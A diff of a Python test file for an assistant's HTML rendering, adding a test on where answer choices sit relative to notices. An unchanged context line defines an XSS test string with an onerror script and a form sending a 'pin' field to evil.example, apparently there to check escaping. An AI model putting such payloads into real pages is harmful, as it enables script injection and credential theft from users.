@@ -6,7 +6,7 @@ from tiny import CHAIN, TODAY, TWO_LINKS, TinyAssistant, cite
 
 from assistant import render, texts
 from assistant.exchanges import Exchange
-from assistant.types import AnswerMode, AnswerStatus, Block, Sentence, SourceKind
+from assistant.types import AnswerMode, AnswerStatus, Block, Choice, Sentence, SourceKind
 
 EVIL = "<img src=x onerror=alert(1)><form action=//evil.example><input name=pin>\"'"
 
@@ -26,6 +26,19 @@ def drawn(answer, language="nb"):
 def answer():
     assistant = TinyAssistant()
     return assistant.ask(assistant.question("Hva er terskelen?"))
+
+
+def test_the_choices_for_what_is_missing_stand_before_what_is_said_without_it(answer):
+    choice = Choice("Varer", "Hva gjelder for varer?")
+    page = drawn(replace(answer, choices=(choice,), notices=("Mangler noe.",)))
+    assert (
+        page.index("Mangler noe.")
+        < page.index('data-ask="Hva gjelder for varer?"')
+        < page.index("<p>Tabellen")
+    )
+    assert page.count("Mangler noe.") == 1
+    plain = drawn(replace(answer, notices=("Mangler noe.",)))
+    assert plain.index("<p>Tabellen") < plain.index("Mangler noe.")
 
 
 def test_an_answer_from_some_kinds_of_source_says_which_beside_its_day(answer):
